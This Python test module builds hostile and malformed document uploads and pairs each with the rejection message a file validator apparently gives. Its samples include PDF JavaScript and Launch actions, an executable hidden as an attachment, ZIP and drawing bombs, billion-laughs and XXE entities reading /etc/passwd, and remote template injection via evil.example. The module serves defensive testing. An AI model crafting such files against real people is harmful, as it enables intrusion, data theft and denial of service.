"""Files that are no documents, or worse, each with what its sender must be told."""

import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Dictionary, Name

from tests.library import good_documents as good
from tests.library.good_documents import docx, odt, plain_pdf, saved, xlsx, zipped

MB = 1024 * 1024
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"

LOCKED = "This file is locked with a password: save it without one."
DAMAGED = "This file is damaged: "
ACTIVE = "This file contains scripts or programs "
MACROS = "This file contains macros "
BOMB = "This file unpacks to far more than a document needs "
NESTED = "This file contains archives: "
OTHER = "A file of another kind: "
ACCEPTED = (
    "PDF, EPUB, CSV, ZIP and files of Office programs are accepted, up to 50\xa0MB."
)


@dataclass(frozen=True)
class Hostile:
    """A file under the name it goes by, and how what is said of it begins."""

    name: str
    make: Callable[[], bytes]
    says: str


def script_pdf():
    document = plain_pdf()
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    return saved(document)


def compressed_script_pdf():
    document = plain_pdf()
    action = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.beep()"))
    document.pages[0].AA = Dictionary(O=document.make_indirect(action))
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def spelled_script_pdf():
    """A script whose kind is spelled by numbers, as the standard allows."""
    return objects_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aavaScript/JS(app.beep)>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE,
    )


def launching_pdf(in_secret=False):
    """``in_secret``: what it does stands in an object of its own."""
    document = plain_pdf()
    kind = document.make_indirect(Name.Launch) if in_secret else Name.Launch
    action = document.make_indirect(Dictionary(S=kind, F="calc.exe"))
    document.Root.OpenAction = action
    return saved(document)


def program_in_pdf():
    document = plain_pdf()
    attachments = pikepdf.AttachedFileSpec(document, b"MZ\x90\0", filename="report.txt")
    document.attachments["report.txt"] = attachments
    return saved(document)


def one_page_many_times(count=100_000):
    """100,000 pages in 600 kB: each is the same one. ``count``: as the file states."""
    return objects_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %06d/Kids[%s]>>" % (count, b"3 0 R " * 100_000),
        PAGE,
    )


def objects_pdf(*objects):
    content, offsets = b"%PDF-1.7\n", []
    for number, item in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    size = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\n" % size
    return content + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(content)


def drawing_bomb():
    """A page of 0.4 MB with 200 MB of lines."""
    document, packer = plain_pdf(), zlib.compressobj(1)
    lines = b"0 0 m 9 9 l S " * (MB // 14)
    packed = b"".join(packer.compress(lines) for _part in range(200)) + packer.flush()
    stream = document.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    document.pages[0].Contents = stream
    return saved(document)


def pdf_with_a_hole():
    """All pages are there, and another object is not where the table says."""
    document = plain_pdf()
    document.Root.Lost = document.make_indirect(Dictionary(Lost=1))
    content = bytearray(saved(document))
    at = content.rindex(b" 0 obj", 0, content.index(b"<< /Lost 1"))
    content[at : at + 6] = bytes(6)
    return bytes(content)


def locked_pdf():
    return saved(plain_pdf(), encryption=pikepdf.Encryption(user="a", owner="b"))


def locked_docx():
    """What Word makes of a document with a password, as far as it matters."""
    stream = "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + stream


def locked_member():
    content = bytearray(docx())
    content[content.index(b"PK\1\2") + 8] |= 1
    return bytes(content)


def lying_bomb():
    """A member that unpacks to more than it says."""
    content = bytearray(docx(f"<w:p>{' ' * 2 * MB}</w:p>"))
    at = content.rindex(b"PK\1\2")
    content[at + 24 : at + 28] = struct.pack("<L", 2000)
    return bytes(content)


def slow_bomb():
    """250 MB out of 3 MB, as it says."""
    content = bytearray(
        docx(members={"word/a.png": random.Random(3).randbytes(3 * MB)})
    )
    at = content.rindex(b"PK\1\2")
    content[at + 24 : at + 28] = struct.pack("<L", 250 * MB)
    return bytes(content)


def half(content):
    return content[: len(content) // 2]


ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE d [<!ENTITY e0 "ha">{ENTITIES}]>'
STRANGER = '<!DOCTYPE d [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>'
ENTITY = "<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def with_template(target, part="word/_rels/settings.xml.rels", more=""):
    """Return a document that names its template in a part of relationships."""
    relation = (
        f'<Relationships xmlns="{good.RELATIONS}" xmlns:x="x"><Relationship Id="a" '
        f'Type="{good.OFFICE}/attachedTemplate" Target="{target}" {more}/>'
        "</Relationships>"
    )
    return docx(members={part: relation})


FOREIGN_TEMPLATES = {
    "on a site": lambda: with_template("https://evil.example/a.dotm"),
    "on a server of files": lambda: with_template("ftp://evil.example/a.dotm"),
    "on a share, as an address": lambda: with_template("file://evil.example/s/a.dotm"),
    "on a share, with more signs": lambda: with_template(
        "file:////evil.example/a.dotm"
    ),
    "on a share": lambda: with_template(r"\\evil.example\share\a.dotm"),
    "behind blanks": lambda: with_template("  https://evil.example/a.dotm"),
    "in a part of another name": lambda: with_template(
        "https://evil.example/a.dotm", "_rels/setup.xml.rels"
    ),
    "in capitals": lambda: with_template(
        "HTTPS://evil.example/a.dotm", "word/_RELS/x.RELS"
    ),
    "behind another name": lambda: with_template(
        "https://evil.example/a.dotm", more=r'x:Target="C:\a.dotm"'
    ),
}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><title>Report</title><script>alert(1)</script>"

HOSTILE = {
    "HTML": Hostile("a.pdf", lambda: HTML, OTHER),
    "SVG": Hostile("a.pdf", lambda: SVG, OTHER),
    "JPEG": Hostile("a.pdf", lambda: b"\xff\xd8\xff\xe0" + bytes(99), OTHER),
    "program": Hostile("a.docx", lambda: b"MZ\x90\0" + bytes(99), OTHER),
    "CSV": Hostile(
        "a.xlsx",
        lambda: "год;число\n2017;1".encode(),
        "Plain text that is not called .csv: ",
    ),
    "noise": Hostile("a.pdf", lambda: bytes(range(256)), OTHER),
    "old Word": Hostile(
        "a.docx", lambda: half(locked_docx()), "A file in an old Office format (.doc, "
    ),
    "plain ZIP": Hostile(
        "a.docx", lambda: zipped({"a.txt": "a"}), "An archive (ZIP or similar), "
    ),
    "template": Hostile(
        "a.docx",
        lambda: docx(kind=good.DOCX.replace("document.main", "template.main")),
        "A template or a slide show, despite its name: ",
    ),
    "nothing": Hostile("a.pdf", lambda: b"", "The file is empty: "),
    "too large": Hostile(
        "a.pdf",
        lambda: bytes(51 * MB),
        "The file is 51\xa0MB: files up to 50\xa0MB",
    ),
    "locked PDF": Hostile("a.pdf", locked_pdf, LOCKED),
    "locked DOCX": Hostile("a.docx", locked_docx, LOCKED),
    "locked member": Hostile("a.docx", locked_member, LOCKED),
    "half a PDF": Hostile("a.pdf", lambda: half(good.tagged_pdf()), DAMAGED),
    "half a DOCX": Hostile("a.docx", lambda: half(docx()), DAMAGED),
    "PDF with a hole": Hostile("a.pdf", pdf_with_a_hole, DAMAGED),
    "PDF with a tail": Hostile(
        "a.pdf", lambda: good.tagged_pdf() + b"-" * 5000, DAMAGED
    ),
    "PDF without pages": Hostile("a.pdf", lambda: saved(pikepdf.new()), DAMAGED),
    "PDF in name": Hostile("a.pdf", lambda: b"%PDF-1.7\n" + HTML, DAMAGED),
    "PDF with a script": Hostile("a.pdf", script_pdf, ACTIVE),
    "PDF with a compressed script": Hostile("a.pdf", compressed_script_pdf, ACTIVE),
    "PDF with a spelled script": Hostile("a.pdf", spelled_script_pdf, ACTIVE),
    "PDF that starts a program": Hostile("a.pdf", launching_pdf, ACTIVE),
    "PDF that does so in secret": Hostile("a.pdf", lambda: launching_pdf(True), ACTIVE),
    "PDF with a program": Hostile("a.pdf", program_in_pdf, ACTIVE),
    **{
        f"DOCX with a template {where}": Hostile("a.docx", make, ACTIVE)
        for where, make in FOREIGN_TEMPLATES.items()
    },
    "PDF and ZIP": Hostile(
        "a.pdf", lambda: good.tagged_pdf() + zipped({"a.class": "a"}), DAMAGED
    ),
    "PDF and ZIP, with a tail": Hostile(
        "a.pdf", lambda: good.tagged_pdf() + zipped({"a.class": "a"}) + b"-", DAMAGED
    ),
    "PDF and ZIP, with a PDF's end": Hostile(
        "a.pdf",
        lambda: good.tagged_pdf() + zipped({"a.class": "a"}, b"%%EOF"),
        DAMAGED,
    ),
    "100,000 pages": Hostile("a.pdf", one_page_many_times, BOMB),
    "100,000 pages, one told": Hostile("a.pdf", lambda: one_page_many_times(1), BOMB),
    "drawing bomb": Hostile("a.pdf", drawing_bomb, BOMB),
    "DOCM": Hostile("a.docx", lambda: docx(kind=MACRO_MAIN), MACROS),
    "DOCX with macros": Hostile(
        "a.docx", lambda: docx(members={"word/vbaProject.bin": "a"}), MACROS
    ),
    "ODT with macros": Hostile(
        "a.odt", lambda: odt(members={"Basic/Standard/Module1.xml": "<a/>"}), MACROS
    ),
    "bomb as XLSX": Hostile("a.xlsx", lambda: xlsx(" " * 201 * MB), BOMB),
    "bomb as DOCX": Hostile("a.docx", lambda: docx(" " * 20 * MB), BOMB),
    "slow bomb": Hostile("a.docx", slow_bomb, BOMB),
    "lying bomb": Hostile("a.docx", lying_bomb, DAMAGED),
    "many members": Hostile(
        "a.docx", lambda: docx(members={f"{n}.xml": "" for n in range(5001)}), BOMB
    ),
    "ZIP in DOCX": Hostile(
        "a.docx", lambda: docx(members={"word/a.zip": zipped({"a": "a"})}), NESTED
    ),
    "billion laughs": Hostile("a.docx", lambda: docx(ENTITY, LAUGHS), DAMAGED),
    "stranger's file": Hostile("a.docx", lambda: docx(ENTITY, STRANGER), DAMAGED),
    "deep XML": Hostile("a.docx", lambda: docx("<w:p>" * 100_000), DAMAGED),
}
